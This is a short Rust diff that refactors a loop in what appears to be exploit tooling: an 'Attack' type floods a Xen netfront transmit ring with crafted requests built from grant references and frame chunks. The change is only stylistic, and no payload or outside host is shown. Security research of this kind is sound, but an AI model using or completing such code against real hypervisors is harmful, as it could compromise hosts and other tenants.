@@ -127,7 +127,7 @@ impl Attack {
         let grefs = self.data.grefs();
         let pages = per as usize - 1;
         while self.in_flight + per <= RING {
-            for k in 0..pages {
+            for (k, gref) in grefs.iter().enumerate().take(pages) {
                 let mut flags = if k == 0 {
                     NetTxFlags::EXTRA_INFO
                 } else {
@@ -138,7 +138,7 @@ impl Attack {
                 }
                 let chunk = (self.frame.len() - k * XEN_PAGE_SIZE).min(XEN_PAGE_SIZE);
                 r.put_request(&NetifTxRequest {
-                    gref: grefs[k].0,
+                    gref: gref.0,
                     offset: 0,
                     flags: flags.bits(),
                     id: k as u16,
